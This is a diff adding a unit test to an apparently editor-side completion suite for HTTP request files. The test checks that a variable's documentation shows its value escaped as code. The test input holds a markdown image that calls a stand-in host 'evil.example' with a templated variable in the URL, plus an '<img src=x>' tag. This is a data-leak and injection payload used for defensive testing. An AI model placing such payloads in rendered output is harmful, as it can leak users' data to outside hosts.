@@ -53,6 +53,12 @@ function filled(snippet: string): string {
 folders['./'] = folders['.'] ?? [];
 
 describe('Completion', () => {
+  it('documents a variable by its text as code, whatever that holds', async () => {
+    const items = await at('@b = 1\n@a = `![x](https://evil.example/{{b}})<img src=x>\n\n### T\nGET /{{|}}');
+    const documentation = items.find(({ label }) => label === 'a')?.documentation;
+    assert.equal(documentation, '`` `![x](https://evil.example/{{b}})<img src=x> ``');
+  });
+
   const cases: [marked: string, label: string, result: string][] = [
     ['|', 'GET', 'GET '],
     ['po|', 'POST', 'POST '],
